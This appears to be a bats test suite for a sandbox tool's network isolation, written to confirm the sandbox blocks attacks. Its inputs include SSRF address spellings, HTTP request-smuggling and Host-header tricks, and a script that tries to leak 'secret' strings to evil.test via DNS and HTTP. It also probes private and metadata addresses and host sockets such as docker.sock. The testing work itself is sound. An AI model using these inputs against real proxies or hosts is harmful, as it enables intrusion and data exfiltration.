#!/usr/bin/env bats
# Attacks on the network side, each named after its kind and number.
# shellcheck disable=SC2016 # expanded inside the sandbox

load helper

setup_file() {
	home_make
	cp "$SBX_PROBE" "$HOME/project/probe"
	cp "$BATS_TEST_DIRNAME/raw.py" "$HOME/project/"
	port=$(server web server.py --log "$HOME/run/requests")
	network=${SBX_TEST_NETWORK:-native}
	export port network
	policy <<END
version: 1
prompt: {without-agent: deny}
profiles:
  default:
    network: $network
    allow:
      net:access: ["good.test:$port", "*.good.test:$port"]
    deny:
      net:access: [bad.test]
    hosts: {good.test: 127.0.0.1, sub.good.test: 127.0.0.1, bad.test: 127.0.0.1, evilgood.test: 127.0.0.1,
      good.test.evil.test: 127.0.0.1, evil.test: 127.0.0.1}
  open:
    extends: [base]
    network: $network
    allow:
      fs:read: ["\${project}"]
      net:access: ["*", localhost, 127.0.0.0/8, "::1", 198.18.0.0/15, "fd53:6278::/64"]
  nothing:
    extends: [base]
    network: $network
    allow:
      fs:read: ["\${project}"]
      net:access: []
    hosts: {good.test: 127.0.0.1}
  serves:
    extends: [base]
    network: $network
    allow:
      fs:read: ["\${project}"]
      net:listen: [3000]
END
}

setup() {
	cd "$HOME/project" || return
	: >"$HOME/run/requests"
}

nothing_arrived() {
	[[ ! -s $HOME/run/requests ]]
}

get() { # get URL: by curl
	run sbx run -- curl -sS --max-time 10 -o body -w '%{http_code}' "$1"
	echo "$1: $output ($status)"
}

raw() { # raw TEXT…: by raw.py
	run sbx run -- python3 raw.py "$@"
	echo "$*: $output"
}

no_way() { # no_way ERROR: what probe says of a socket that isn't to be reached
	[[ $1 == ECONNREFUSED || $1 == ENOENT || $1 == EACCES || $1 == EPERM ]]
}

# bats test_tags=contract
@test "what is allowed works, so that what follows means something" {
	get "http://good.test:$port/x"
	contains "$output" 200
	get "http://sub.good.test:$port/x"
	contains "$output" 200
	raw "GET http://good.test:$port/raw HTTP/1.1\r\nHost: good.test:$port\r\nConnection: close\r\n\r\n"
	contains "$output" "hello /raw"
	raw "CONNECT good.test:$port HTTP/1.1\r\nHost: good.test:$port\r\n\r\n" "GET /tunnel HTTP/1.0\r\n\r\n"
	contains "$output" "hello /tunnel"
}

# bats test_tags=contract
@test "attack_n_01 an empty allow list means nothing is allowed" {
	run sbx run --profile nothing -- curl -sS --max-time 10 "http://good.test:$port/x"
	echo "$output"
	lacks "$output" hello
	contains "$output" "blocked net:access good.test"
	nothing_arrived
	run sbx run --profile nothing -- curl -sS --noproxy '*' --max-time 3 "http://127.0.0.1:$port/x"
	contains "$output" "curl: ("
	nothing_arrived
}

@test "attack_n_02 names are compared label by label" {
	for host in evilgood.test good.test.evil.test evil.test; do
		get "http://$host:$port/x"
		is_refused "$output"
	done
	nothing_arrived
}

# bats test_tags=ci
@test "attack_n_03 one name in many spellings is one name; what can't be normalised is refused" {
	for host in GOOD.test good.test. GoOd.TeSt.; do
		raw "GET http://$host:$port/same HTTP/1.1\r\nHost: $host:$port\r\nConnection: close\r\n\r\n"
		contains "$output" "hello /same"
	done
	: >"$HOME/run/requests"
	for host in BAD.test bad.test. 127.0.0.1 2130706433 0x7f.1 0177.0.0.1 127.1 0x7f000001 '[::ffff:127.0.0.1]' '[::ffff:7f00:1]' \
		'[::1]' '[0:0:0:0:0:0:0:1]' localhost LOCALHOST. 'good.test%00.evil.test' 'good.test\0.evil.test' 'good%2etest' \
		'[fe80::1%25lo]' '[fe80::1%lo]' 'good..test' '.good.test' '*.good.test' 'good.test ' 'bad。test' '①②⑦.0.0.1' 0 0.0.0.0 '[::]'; do
		raw "GET http://$host:$port/evil HTTP/1.1\r\nHost: $host:$port\r\nConnection: close\r\n\r\n"
		lacks "$output" "hello "
		grep -qE '^HTTP/1.1 40[03]' <<<"$output"
		raw "CONNECT $host:$port HTTP/1.1\r\nHost: $host:$port\r\n\r\n" "GET /evil HTTP/1.0\r\n\r\n"
		lacks "$output" "hello "
		grep -qE '^HTTP/1.1 40[03]' <<<"$output"
	done
	nothing_arrived
}

@test "attack_n_03 the same for connections by name" {
	only_native "there is no other way out by name"
	cat >reach.py <<'END'
import socket, sys
for host in sys.argv[2:]:
    try:
        with socket.create_connection((host, int(sys.argv[1])), timeout=10) as fd:
            fd.sendall(b"GET /reached HTTP/1.0\r\n\r\n")
            print(host, "reached" if b"hello" in fd.makefile("rb").read() else "no answer")
    except (OSError, UnicodeError) as error:
        print(host, type(error).__name__)
END
	run sbx run --profile default -- python3 reach.py "$port" GOOD.test good.test. GoOd.TeSt.
	echo "$output"
	[ "$(grep -c ' reached$' <<<"$output")" = 3 ]
	: >"$HOME/run/requests"
	run sbx run --profile default -- python3 reach.py "$port" BAD.test bad.test. 127.0.0.1 127.8.8.8 2130706433 0x7f.1 0177.0.0.1 127.1 \
		0x7f000001 ::ffff:127.0.0.1 ::ffff:7f00:1 ::1 0:0:0:0:0:0:0:1 localhost LOCALHOST. 'good.test%00.evil.test' 'good%2etest' \
		'fe80::1%lo' good..test .good.test '*.good.test' 'good.test ' 'bad。test' '①②⑦.0.0.1' 0 0.0.0.0 :: ::7f00:1 64:ff9b::127.0.0.1
	echo "$output"
	lacks "$output" " reached"
	[ "$(grep -cE ' (no answer|[A-Za-z]+)$' <<<"$output")" -ge 29 ] # each was tried
	nothing_arrived
}

@test "attack_n_03 the same for SOCKS" {
	hexport=$(printf '\\x%02x\\x%02x' $((port >> 8)) $((port & 255)))
	# greeting, then CONNECT by name (03) with its length
	raw '\x05\x01\0' "\\x05\\x01\\0\\x03\\x09good.test$hexport" 'GET /socks HTTP/1.0\r\n\r\n'
	contains "$output" "$(printf 'hello /socks' | od -An -tx1 | tr -d ' \n')"
	: >"$HOME/run/requests"
	for name in '\x08bad.test' '\x0e127.0.0.1.test' '\x09127.0.0.1' '\x0a2130706433' '\x0agood.test\0' '\0'; do
		raw '\x05\x01\0' "\\x05\\x01\\0\\x03$name$hexport" 'GET /evil HTTP/1.0\r\n\r\n'
	done
	raw '\x05\x01\0' "\\x05\\x01\\0\\x01\\x7f\\0\\0\\x01$hexport" 'GET /evil HTTP/1.0\r\n\r\n'
	raw '\x05\x01\0' "\\x05\\x01\\0\\x04\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\xff\\xff\\x7f\\0\\0\\x01$hexport" 'GET /evil HTTP/1.0\r\n\r\n'
	nothing_arrived
}

# bats test_tags=contract
@test "attack_n_04 the authority that was judged is dialled; what is ambiguous is 400" {
	raw "GET http://bad.test:$port/evil HTTP/1.1\r\nHost: good.test:$port\r\nConnection: close\r\n\r\n"
	grep -qE '^HTTP/1.1 40[03]' <<<"$output"
	raw "CONNECT bad.test:$port HTTP/1.1\r\nHost: good.test:$port\r\n\r\n" "GET /evil HTTP/1.1\r\nHost: good.test\r\n\r\n"
	grep -qE '^HTTP/1.1 40[03]' <<<"$output"
	nothing_arrived
	local bad=(
		"GET http://good.test:$port/evil HTTP/1.1\r\nHost: good.test:$port\r\nHost: bad.test\r\n\r\n"
		"GET http://user@good.test:$port/evil HTTP/1.1\r\nHost: good.test:$port\r\n\r\n"
		"GET http://good.test:$port@bad.test/evil HTTP/1.1\r\nHost: good.test:$port\r\n\r\n"
		"POST http://good.test:$port/evil HTTP/1.1\r\nHost: good.test:$port\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
		"POST http://good.test:$port/evil HTTP/1.1\r\nHost: good.test:$port\r\nContent-Length: 4\r\nContent-Length: 5\r\n\r\nabcd"
		"POST http://good.test:$port/evil HTTP/1.1\r\nHost: good.test:$port\r\nContent-Length: +4\r\n\r\nabcd"
		"POST http://good.test:$port/evil HTTP/1.1\r\nHost: good.test:$port\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n"
		"GET http://good.test:$port/evil HTTP/1.1\r\nHost: good.test:$port\r\n folded: line\r\n\r\n"
		"GET http://good.test:$port/evil HTTP/1.1\r\nHost : good.test:$port\r\n\r\n"
		"GET  http://good.test:$port/evil HTTP/1.1\r\nHost: good.test:$port\r\n\r\n"
		"GET http://good.test:$port/evil HTTP/1.1\r\nHost: good.test:$port\r\nX: a\0b\r\n\r\n"
		"GET http://good.test:$port/evil HTTP/9.9\r\nHost: good.test:$port\r\n\r\n"
		"GET http://good.test:99999/evil HTTP/1.1\r\nHost: good.test:99999\r\n\r\n"
		"CONNECT good.test HTTP/1.1\r\nHost: good.test\r\n\r\n"
		"CONNECT good.test:$port/evil HTTP/1.1\r\nHost: good.test\r\n\r\n"
		"GET /evil HTTP/1.1\r\nHost: good.test:$port\r\n\r\n"
	)
	for text in "${bad[@]}"; do
		raw "$text"
		grep -qE '^HTTP/1.1 (4[0-9][0-9]|50[15])' <<<"$output"
		nothing_arrived
	done
}

@test "attack_n_04 the Host header that goes on is the authority" {
	raw "GET http://good.test:$port/host HTTP/1.1\r\nHost: bad.test\r\nConnection: close\r\n\r\n"
	lacks "$output" "host=bad.test"
}

denials() { # denials TARGET: how many the history has
	sbx history --json --verdict deny | jq -s "map(select(.target == \"$1\")) | length"
}

@test "attack_n_04 first bytes that ask for another host than was allowed never arrive whole" {
	before=$(denials "bad.test:$port")
	# -p: where there is a proxy, in a tunnel; a request in the clear has its own rows above
	run sbx run -- curl -sS -p --max-time 10 -H "Host: bad.test:$port" "http://good.test:$port/fronted"
	echo "$output"
	lacks "$output" hello
	contains "$output" "blocked net:access bad.test:$port (a connection to good.test:$port asks for it by its first bytes"
	run sbx run -- curl -sSk --max-time 10 --connect-to "bad.test:$port:good.test:$port" "https://bad.test:$port/fronted"
	echo "$output"
	lacks "$output" hello
	contains "$output" "blocked net:access bad.test:$port (a connection to good.test:$port asks for it by its first bytes"
	nothing_arrived
	[ "$(denials "bad.test:$port")" = $((before + 2)) ]
	[ "$(sbx history --json | jq -r 'select(.kind == "connection") | .detail.error' | tail -1)" = "its first bytes ask for bad.test:$port, which is not allowed" ]
	# another host that is allowed at that port is no other
	run sbx run -- curl -sS -p --max-time 10 -H "Host: sub.good.test:$port" "http://good.test:$port/shared"
	echo "$output"
	contains "$output" "hello /shared"
}

@test "attack_n_04 the question about a connection says which other host its first bytes ask for" {
	only_native "the proxy's tools say nothing before they are answered"
	policy_before=$(<"$HOME/.config/sbx/policy.yaml")
	native_policy '    hosts: {asked.test: 127.0.0.1}'
	cat >ask.py <<'END'
import socket, sys
address = socket.getaddrinfo("asked.test", int(sys.argv[1]), socket.AF_INET, socket.SOCK_STREAM)[0][4]
fd = socket.socket()
fd.setblocking(False)
fd.connect_ex(address)
fd.send(b"GET / HTTP/1.1\r\nHost: other.test\r\n\r\n")
fd.setblocking(True)
print(fd.recv(100))
END
	# The question waits for the bytes a moment only: on a machine that has none to spare it is asked again.
	for ((tries = 0, named = 0; tries < 20 && !named; tries++)); do
		background ask sbx run -- python3 ask.py "$port"
		id=$(prompt_id)
		if sbx prompts --json | jq -e '.[0].name == "other.test"'; then
			named=1
			contains "$(sbx prompts)" "asked.test:$port (its first bytes ask for other.test, which must be allowed, too)"
		fi
		sbx deny "$id"
		finished ask
		contains "$output" ConnectionResetError
	done
	((named))
	policy <<<"$policy_before"
}

# bats file_tags=part2

# bats test_tags=contract,ci
@test "attack_n_05 no packet leaves for a name or address that was not allowed, also while it is asked about" {
	policy_before=$(<"$HOME/.config/sbx/policy.yaml")
	policy <<END
version: 1
prompt: {timeout: 2s, without-agent: wait}
profiles:
  default:
    network: $network
    allow:
      net:access: [{target: "*.good.test", private: true}]
    deny:
      net:access: ["*.evil.test"]
END
	cat >names.py <<'END'
import socket, sys, urllib.request

def query(name):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return b"\x12\x34\1\0\0\1\0\0\0\0\0\0" + labels + b"\0\0\1\0\1"

def attempt(what, *arguments):
    try:
        print(what.__name__, "answered", what(*arguments))
    except Exception as error:
        print(what.__name__, type(error).__name__, error)

def udp(address, name):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as fd:
        fd.settimeout(3)
        fd.connect((address, 53))
        fd.send(query(name))
        return len(fd.recv(512))

def unconnected(address, name):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as fd:
        fd.settimeout(3)
        fd.sendto(query(name), (address, 53))
        return len(fd.recv(512))

def tcp(address, name):
    with socket.create_connection((address, 53), timeout=5) as fd:
        fd.sendall(len(query(name)).to_bytes(2, "big") + query(name))
        return len(fd.recv(512))

def fetch(url):
    return urllib.request.urlopen(url, timeout=10).read()

long = ".".join(["secret" + "x" * 50] * 3)
attempt(socket.gethostbyname, f"{long}.evil.test")
attempt(socket.getaddrinfo, f"{long}.undecided.test", 80)
attempt(socket.gethostbyname, "secret-word")
for address in "127.0.0.1", "192.0.2.53":
    for way in udp, unconnected, tcp:
        attempt(way, address, "secret.undecided.test")
        attempt(way, address, "secret.evil.test")
attempt(fetch, "http://secret.evil.test/x")
attempt(fetch, "http://secret.undecided.test/x")
attempt(socket.create_connection, ("secret.undecided.test", 443), 5)
END
	in_own_network '
		printf "nameserver 127.0.0.1\n" >"$HOME/run/resolv.conf" && mount --bind "$HOME/run/resolv.conf" /etc/resolv.conf &&
			printf "hosts: files dns\n" >"$HOME/run/nsswitch.conf" &&
			mount --bind "$HOME/run/nsswitch.conf" /etc/nsswitch.conf || exit 9
		rm -f "$HOME/run/wire.ready" "$HOME/run/there"
		python3 "$TESTS/wire.py" --ready "$HOME/run/wire.ready" --log "$HOME/run/wire" --answer 127.0.0.1 \
			>"$HOME/run/wire.log" 2>&1 3>&- &
		wire=$!
		python3 "$TESTS/server.py" --port-file "$HOME/run/there" >"$HOME/run/there.log" 2>&1 3>&- &
		there=$!
		until [ -e "$HOME/run/wire.ready" ] && [ -e "$HOME/run/there" ]; do kill -0 "$wire" "$there" || exit 9; sleep 0.05; done
		plain sbx run --profile default -- python3 names.py >"$HOME/run/names" 2>&1
		plain sbx run -- curl -sS --max-time 20 "http://secret.good.test:$(cat "$HOME/run/there")/x" >"$HOME/run/fetched" 2>&1
		# in the order in which they left: with this one all before it are written down
		for _ in {1..600}; do ! grep -q "secret\.good\.test" "$HOME/run/wire" || break; sleep 0.05; done
		kill "$wire" "$there"'
	policy <<<"$policy_before"
	tail -n 30 "$HOME/run/wire.log" "$HOME/run/names" "$HOME/run/fetched"
	# what was allowed leaves, and would have been seen
	grep -q "hello /x" "$HOME/run/fetched"
	grep -q 'secret\.good\.test' "$HOME/run/wire"
	grep -q secret "$HOME/run/names"
	sed '/secret\.good\.test/,$d' "$HOME/run/wire" >"$HOME/run/wire.denied"
	run grep -a secret "$HOME/run/wire.denied"
	echo "$output"
	[ "$status" = 1 ]
	grep -q 'secret.undecided.test:80 (nobody answered prompt' "$HOME/run/names"
}

@test "attack_n_06 an allowed name that resolves to a private address is refused without private: true" {
	printf '127.0.0.1 localhost rebind.test\n10.1.2.3 ten.test\n169.254.169.254 meta.test\n::1 six.test\n192.168.1.1 home.test\n' >"$HOME/run/hosts"
	policy_before=$(<"$HOME/.config/sbx/policy.yaml")
	policy <<END
version: 1
prompt: {without-agent: deny}
profiles:
  default:
    network: $network
    allow:
      net:access: ["*.test", {target: "mine.test:$port", private: true}]
END
	printf '127.0.0.1 mine.test\n' >>"$HOME/run/hosts"
	in_own_mounts '
		mount --bind "$HOME/run/hosts" /etc/hosts || exit 9
		for host in rebind ten meta six home mine; do
			plain sbx run -- curl -sS --max-time 5 "http://$host.test:$port/$host" >"$HOME/run/$host" 2>&1
		done'
	tail -n 20 "$HOME"/run/{rebind,ten,meta,six,home,mine}
	for host in rebind ten meta six home; do
		run grep -E 'hello|timed out' "$HOME/run/$host"
		[ "$status" = 1 ]
		grep -q private "$HOME/run/$host"
		[ "$(sbx history --json --verdict deny | jq -s "map(select(.by == \"gate\" and .target == \"$host.test:$port\")) | length")" -ge 1 ]
	done
	grep -q "hello /mine" "$HOME/run/mine"
	policy <<<"$policy_before"
}

# bats test_tags=contract
@test "attack_n_07 a server gets no port that is for administrators, though its bind is carried out for it" {
	[ "$(</proc/sys/net/ipv4/ip_unprivileged_port_start)" = 1024 ] || skip "optional: lower ports are anybody's here"
	cat >bind.py <<'END'
import ctypes, errno, socket, struct
libc = ctypes.CDLL(None, use_errno=True)
for family in socket.AF_INET, socket.AF_UNSPEC:  # which is the same to bind(2)
    for kind in socket.SOCK_STREAM, socket.SOCK_DGRAM:
        for port in 80, 3000:
            with socket.socket(socket.AF_INET, kind) as fd:
                address = struct.pack("=H", family) + struct.pack("!HI8x", port, 0)
                failed = libc.bind(fd.fileno(), address, len(address))
                print(port, errno.errorcode[ctypes.get_errno()] if failed else 0)
END
	run -0 sbx run --profile serves -- python3 bind.py
	echo "$output"
	[ "$(grep -c '^80 EACCES$' <<<"$output")" = 4 ]
	[ "$(grep -c '^3000 0$' <<<"$output")" = 4 ]
}

# bats test_tags=contract
@test "attack_n_10 a host service on loopback can't be reached, by any address of the host" {
	for address in 127.0.0.1 127.0.0.2 localhost '[::1]' "$(hostname -I 2>/dev/null | cut -d' ' -f1)"; do
		run sbx run -- curl -sS --noproxy '*' --max-time 3 "http://${address:-127.0.0.1}:$port/x"
		[ "$status" != 0 ]
	done
	nothing_arrived
}

@test "attack_n_10 a server in one sandbox can't be reached from another, whatever that may connect to" {
	cat >serve.py <<'END'
import http.server, socket, sys, threading

class Dual(http.server.ThreadingHTTPServer):
    address_family = socket.AF_INET6

server = Dual(("::", 0), http.server.SimpleHTTPRequestHandler)
threading.Thread(target=server.serve_forever, daemon=True).start()
socket.create_connection(("127.0.0.1", server.server_address[1])).close()  # it is there for who is inside
with open("served.new", "w") as file:
    print(server.server_address[1], file=file)
import os, time
os.rename("served.new", "served")
time.sleep(300)
END
	rm -f served
	sbx run --profile default -- python3 serve.py >"$HOME/run/served.log" 2>&1 3>&- &
	pid=$!
	wait_for 60 test -s served
	there=$(<served)
	for address in 127.0.0.1 127.0.0.2 '[::1]' localhost 0.0.0.0 '[::]' 198.18.0.1 198.18.0.2 198.19.7.7 '[fd53:6278::1]' '[fd53:6278::7]' \
		"$(hostname)"; do
		run sbx run --profile open -- curl -sS --noproxy '*' --max-time 5 "http://$address:$there/"
		echo "$address: $output"
		contains "$output" "curl: ("
		lacks "$output" served
	done
	kill "$pid"
	wait "$pid" || true
	[[ $network = proxy ]] || contains "$(sbx run --profile open -- curl -sS --max-time 10 "http://localhost:$port/host")" "hello /host"
}

@test "attack_n_11 the proxy has no port on the host, and its socket is nobody else's" {
	ports() { # ports PID…: the sockets of the host's network that they listen or are bound with, by inode
		for pid; do readlink "/proc/$pid/fd/"* || true; done 2>/dev/null | sed -n 's/^socket:\[\(.*\)\]$/\1/p' | sort -u |
			comm -12 - <(awk '$4 == "0A" || $4 == "07" { print $10 }' /proc/net/{tcp,tcp6,udp,udp6} | sort -u)
	}
	python3 -c 'import socket, time; s = socket.create_server(("127.0.0.1", 0)); open("bound", "w"); time.sleep(60)' 3>&- &
	server=$!
	sbx run --profile default -- sh -c 'touch started; sleep 60' 3>&- &
	pid=$!
	wait_for 60 test -e started
	wait_for 60 test -e bound
	[ "$(ports "$server" | wc -l)" = 1 ] # it would be seen
	mapfile -t children < <(pgrep -P "$pid")
	[ "${#children[@]}" -ge 2 ] # the portal, bwrap
	[ "$(ports "$pid" "${children[@]}")" = "" ]
	kill "$server"
	run find "$HOME/.local" -type s -perm /077
	[ "$output" = "" ]
	run find "$HOME/.local/state/sbx" -path '*/homes/*/*' -prune -o -type d -perm /077 -print
	[ "$output" = "" ]
	kill "$pid"
	wait "$pid" || true
	run sbx run -- sh -c 'stat -c %a /run/sbx/proxy.sock; env | grep -c "^HTTPS\?_PROXY=http://127.0.0.1:"'
	echo "$output"
	[ "${lines[0]}" = 600 ]
	[ "${lines[1]}" = "$([[ $network = proxy ]] && echo 2 || echo 0)" ]
}

# bats test_tags=contract
@test "attack_n_13 abstract sockets and the well-known ones of the host are not reachable" {
	name=sbx-e2e-$$
	python3 - "$name" "$HOME/run/plain.sock" >"$HOME/run/unix.log" 2>&1 3>&- <<'END' &
import socket, sys, time
listeners = []
for address in "\0" + sys.argv[1], sys.argv[2]:
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(address)
    listener.listen()
    listeners.append(listener)
time.sleep(60)
END
	echo $! >"$HOME/run/unix.pid"
	wait_for 30 listens "$HOME/run/plain.sock"
	[ "$(./probe connect-unix "@$name")" = worked ]
	for address in "@$name" "$HOME/run/plain.sock" @/tmp/.X11-unix/X0 /tmp/.X11-unix/X0 /run/dbus/system_bus_socket \
		/var/run/docker.sock /run/docker.sock /run/containerd/containerd.sock /run/systemd/private "/run/user/$(id -u)/bus" \
		"$HOME/.gnupg/S.gpg-agent" "$(broker_socket)"; do
		run sbx run -- ./probe connect-unix "$address"
		echo "$address: $output"
		no_way "${lines[0]}"
	done
	run env DBUS_SESSION_BUS_ADDRESS="unix:abstract=$name" sbx run -- env
	lacks "$output" "$name"
}

@test "attack_n_13 n_16 a host socket deep in the project or in a granted folder is not reachable" {
	deep=$HOME/project/a/b/service.sock
	granted=$HOME/granted/c/d/service.sock
	mkdir -p "${deep%/*}" "${granted%/*}"
	python3 - "$deep" "$granted" >"$HOME/run/deep.log" 2>&1 3>&- <<'END' &
import socket, sys, time
listeners = []
for address in sys.argv[1:]:
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(address)
    listener.listen()
    listeners.append(listener)
time.sleep(60)
END
	echo $! >"$HOME/run/deep.pid"
	wait_for 30 listens "$granted"
	sbx grant fs:write "$HOME/granted/**" --profile default --ttl 1h
	for address in "$deep" "$granted"; do
		[ "$(./probe connect-unix "$address")" = worked ]
		run sbx run -- ./probe connect-unix "$address"
		echo "$address: $output"
		no_way "${lines[0]}"
	done
	[ "$(sbx run -- sh -c 'echo mine >a/b/file && cat a/b/file')" = mine ] # the folder is as it was
	kill "$(cat "$HOME/run/deep.pid")"
}
